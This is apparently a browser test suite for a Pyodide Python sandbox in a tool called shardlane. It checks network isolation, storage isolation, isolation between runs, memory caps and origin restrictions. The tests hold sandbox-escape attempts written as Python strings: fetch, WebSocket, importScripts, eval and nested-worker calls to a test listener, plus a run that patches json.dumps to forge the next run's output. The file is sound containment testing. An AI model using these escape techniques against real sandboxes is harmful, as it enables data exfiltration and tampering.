// Pasted Python is hostile: Pyodide hands it the worker's real globals (`import js`, `pyodide_js`)
// and pyodide.http. The browser, not the engine, keeps it in: each run gets a fresh worker started
// from a blob: URL inside a sandboxed, opaque-origin frame (dist/python-sandbox.html) whose own
// Content-Security-Policy allows no connection at all. So:
// - no way out reaches a listener on another port of 127.0.0.1, nor the page's own origin;
// - nothing is written to the page origin's storage (IndexedDB, Cache Storage, OPFS);
// - a run cannot observe or forge the next one;
// - memory is capped (a 4 GiB allocation is a MemoryError), and an oversized result is refused;
// while the page still answers with the script's records or a clear error.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { listen, newPage, plantedProbes, ranWith, screenshot, servedApp, setCode } from './support.mjs';

const app = servedApp('/tools/shardlane/');
/** How long a Python run may take to show its records (a fresh worker starts Pyodide). */
const PYTHON_RUN_MS = 60_000;


/** A put first, with a key of its own: its record on screen says this run has ended. */
const put = (key) => `import boto3\nboto3.client("kinesis").put_record(StreamName="s", Data=b"x", PartitionKey="${key}")\n`;

// Each way out, as a line of Python after a put; `throws` when the attempt fails at once (the page
// then shows the error at that line), otherwise it is asynchronous and fails after the run.
const ATTEMPTS = (url) => [
  { name: 'js.fetch', code: `import js\njs.fetch("${url}/fetch")`, throws: false },
  {
    name: 'pyodide.http.pyfetch',
    code: `import asyncio\nfrom pyodide.http import pyfetch\nasyncio.ensure_future(pyfetch("${url}/pyfetch"))`,
    throws: false,
  },
  {
    name: 'js.XMLHttpRequest',
    code: `import js\nrequest = js.XMLHttpRequest.new()\nrequest.open("GET", "${url}/xhr", False)\nrequest.send()`,
    throws: true,
  },
  { name: 'pyodide.http.open_url', code: `from pyodide.http import open_url\nopen_url("${url}/open_url")`, throws: true },
  { name: 'js.importScripts', code: `import js\njs.importScripts("${url}/importScripts")`, throws: true },
  { name: 'js.WebSocket', code: `import js\njs.WebSocket.new("${url.replace('http', 'ws')}/websocket")`, throws: false },
  { name: 'js.EventSource', code: `import js\njs.EventSource.new("${url}/eventsource")`, throws: false },
  { name: 'js.eval of an import()', code: `import js\njs.eval('import("${url}/eval")')`, throws: true },
  {
    name: 'a nested worker from a blob: URL',
    code: 'import js\nfrom pyodide.ffi import to_js\n'
      + `source = to_js(["fetch('${url}/nested-fetch'); importScripts('${url}/nested-import')"])\n`
      + 'js.Worker.new(js.URL.createObjectURL(js.Blob.new(source)))',
    throws: false,
  },
  {
    name: 'js.indexedDB then a fetch',
    code: `import js\ntry:\n    js.indexedDB.open("shardlane-probe")\nexcept Exception:\n    pass\njs.fetch("${url}/after-indexeddb")`,
    throws: false,
  },
  { name: 'a js.setTimeout that fetches after the run', code: `import js\nfrom pyodide.ffi import create_proxy\njs.setTimeout(create_proxy(lambda: js.fetch("${url}/late-fetch")), 1500)`, throws: false },
];

test('Python code cannot reach another origin through js, pyodide.http, workers or eval', async (t) => {
  const listener = await listen(app.browser);
  try {

    const page = await newPage(app.browser);
    await page.goto(app.server.url);
    await page.locator('#records-table tbody tr').nth(7).waitFor();
    const outcomes = [];
    for (const [index, attempt] of ATTEMPTS(listener.url).entries()) {
      const key = `attempt-${index}`;
      const code = `${put(key)}${attempt.code}\n`;
      await setCode(page, code);
      const last = code.trimEnd().split('\n').length;
      // The run ends: its record is drawn, even when an error follows the put.
      await page.waitForFunction((key) => document.querySelector('#records-table td.key')?.textContent === key
        && !document.querySelector('#run-status.busy'), key, { timeout: 60_000 });
      const errors = await page.locator('.diagnostics .error').allTextContents();
      t.diagnostic(`${attempt.name}: ${errors.join(' | ') || 'no error'}`);
      const shown = attempt.throws ? errors.length === 1 && errors[0].startsWith(`line ${last}:`) : errors.length === 0;
      if (!shown) outcomes.push(`${attempt.name}: expected ${attempt.throws ? `an error at line ${last}` : 'no error'}, shown: ${errors}`);
    }
    await screenshot(page, 'python-containment-1280x800');
    // Asynchronous attempts fail after their run: give them time to arrive.
    await page.waitForTimeout(2_000);
    assert.deepEqual({ requests: listener.seen, outcomes }, { requests: [], outcomes: [] },
      'the listener saw no request, and each attempt ended as expected');
  } finally {
    await listener.close();
  }
});

async function openSeed() {
  const page = await newPage(app.browser);
  await page.goto(app.server.url);
  await page.locator('#records-table tbody tr').nth(7).waitFor();
  return page;
}

test('Python code reaches none of the page origin\'s files and writes none of its storage', async (t) => {
  const page = await openSeed();
  // Each attempt is swallowed when refused: only what the page origin holds afterwards decides.
  await setCode(page, `${put('storage')}import js
from pyodide.ffi import create_proxy
outcomes = []
def attempt(name, action):
    try:
        action()
        outcomes.append(name + ": no error")
    except Exception as error:
        outcomes.append(name + ": " + type(error).__name__)
def idb():
    request = js.indexedDB.open("shardlane-probe", 1)
    request.onupgradeneeded = create_proxy(lambda event: request.result.createObjectStore("planted"))
attempt("indexedDB", idb)
attempt("caches", lambda: js.caches.open("shardlane-probe"))
attempt("OPFS", lambda: js.navigator.storage.getDirectory())
def same_origin():
    request = js.XMLHttpRequest.new()
    request.open("GET", "${app.server.url}", False)
    request.send()
    outcomes.append("same-origin read: HTTP " + str(request.status))
attempt("same-origin request", same_origin)
print(js.location.origin, js.self.origin)
print("\\n".join(outcomes))
`);
  await ranWith(page, 'storage', PYTHON_RUN_MS);
  const printed = await page.locator('#console').textContent();
  t.diagnostic(`the code saw: ${printed.replace(/\n/g, '; ')}`);
  assert.match(printed, /^\S+ null\n/, 'the worker\'s origin is opaque');
  assert.doesNotMatch(printed, /same-origin read: HTTP/, 'no file of the page origin was read');
  await page.waitForTimeout(1_000);
  assert.deepEqual(await plantedProbes(page), [], 'no database, cache or file of the page origin was written');
});

test('a Python run cannot observe or forge the next run', async () => {
  const listener = await listen(app.browser);
  try {
    const page = await openSeed();
    // Script 1 listens for the next script and patches what the harness uses to answer.
    await setCode(page, `${put('first')}import js, json, builtins
from pyodide.ffi import create_proxy
seen = []
js.self.addEventListener("message", create_proxy(lambda event: seen.append(str(event.data.code))))
js.setInterval(create_proxy(lambda: js.fetch("${listener.url}/interval?" + str(len(seen)))), 200)
real_dumps = json.dumps
json.dumps = lambda value, *a, **k: real_dumps(dict(value, console="FORGED") if isinstance(value, dict) else value, *a, **k)
builtins.shardlane_leftover = "leftover"
`);
    await ranWith(page, 'first', PYTHON_RUN_MS);
    await setCode(page, `${put('second')}secret = "AKIA-SECRET-1234567890"
import builtins, json
print(hasattr(builtins, "shardlane_leftover"), json.dumps.__name__)
`);
    await ranWith(page, 'second', PYTHON_RUN_MS);
    await page.waitForTimeout(1_500);
    assert.deepEqual(await page.locator('#records-table td.key').allTextContents(), ['second']);
    assert.equal(await page.locator('#console').textContent(), 'False dumps\n', 'nothing of the first run is left');
    assert.deepEqual(listener.seen, [], 'nothing reached the listener');
  } finally {
    await listener.close();
  }
});

test('allocating gigabytes ends in a MemoryError, the page answering, and the next run works', async () => {
  const page = await openSeed();
  // 4 GiB does not fit in wasm32's index-sized integers (OverflowError): 3 GiB in 1 GiB chunks
  // fits Pyodide's own 4 GiB maximum, not the page's 1 GiB cap.
  await setCode(page, `${put('memory')}chunks = [bytearray(1024 ** 3) for _ in range(3)]\n`);
  const error = page.locator('.diagnostics .error');
  await error.first().waitFor({ timeout: 60_000 });
  assert.match(await error.first().textContent(), /^line 3: MemoryError/);
  await page.fill('#batch-size', '9');
  assert.equal(await page.inputValue('#batch-size'), '9', 'the page answers');
  // Just under the cap works, and the run after it starts in a fresh worker with little memory.
  await setCode(page, `${put('big')}data = bytearray(700 * 1024 ** 2)\n`);
  await ranWith(page, 'big', PYTHON_RUN_MS);
  assert.equal(await page.locator('.diagnostics .error').count(), 0);
  await setCode(page, `import boto3, pyodide_js
size = pyodide_js._module.HEAPU8.length
boto3.client("kinesis").put_record(StreamName="s", Data=b"x", PartitionKey="small" if size < 200 * 1024 ** 2 else str(size))
`);
  await ranWith(page, 'small', PYTHON_RUN_MS);
});

test('a result too large for the page is refused with a clear message', async () => {
  const page = await openSeed();
  // 120 records of 512 KiB, one a second (a shard takes 1 MiB/s): about 80 MB of base64 in the
  // harness's JSON.
  await setCode(page, `import boto3, time
kinesis = boto3.client("kinesis")
for i in range(120):
    kinesis.put_record(StreamName="s", Data=bytes(512 * 1024), PartitionKey=str(i))
    time.sleep(1)
`);
  const status = page.locator('#run-status.error');
  await status.waitFor({ timeout: 60_000 });
  assert.match(await status.textContent(), /records come to \d+ MB of JSON, more than the page takes from one run \(64 MB\)/);
  await screenshot(page, 'python-oversized-result');
});

test('the Python sandbox page serves only its own parent, and only as an opaque origin', async () => {
  const sandbox = new URL('python-sandbox.html', app.server.url).href;
  /** Frames the sandbox in `page` (with `sandbox` flags or none), hands it files and a run, and lists what came back. */
  const frameAndAsk = (page, flags) => page.evaluate(async ([src, flags]) => {
    const frame = document.createElement('iframe');
    if (flags !== null) frame.setAttribute('sandbox', flags);
    frame.src = src;
    const heard = [];
    window.addEventListener('message', (event) => { if (event.source === frame.contentWindow) heard.push(event.data); });
    document.body.append(frame);
    await new Promise((resolve) => { frame.onload = resolve; });
    const files = { 'engine.js': 'postMessage({type: "ready"})', 'pyodide.asm.wasm': new ArrayBuffer(8), 'python_stdlib.zip': new ArrayBuffer(8) };
    frame.contentWindow.postMessage({ type: 'files', files }, '*');
    frame.contentWindow.postMessage({ id: 1, code: 'print(1)', options: '{}' }, '*');
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    return heard;
  }, [sandbox, flags]);

  // Another origin frames it as the page does: it hears nothing, and its files are not taken.
  const foreign = await newPage(app.browser);
  await foreign.goto(app.server.url.replace('127.0.0.1', 'localhost').replace('/tools/shardlane/', '/elsewhere'));
  assert.deepEqual(await frameAndAsk(foreign, 'allow-scripts'), []);

  // The page's own origin without the sandbox attribute: refused.
  const page = await openSeed();
  const heard = await frameAndAsk(page, null);
  assert.equal(heard.length, 1, JSON.stringify(heard));
  assert.equal(heard[0].type, 'failed');
  assert.match(heard[0].message, /sandboxed, opaque-origin frame/);
});
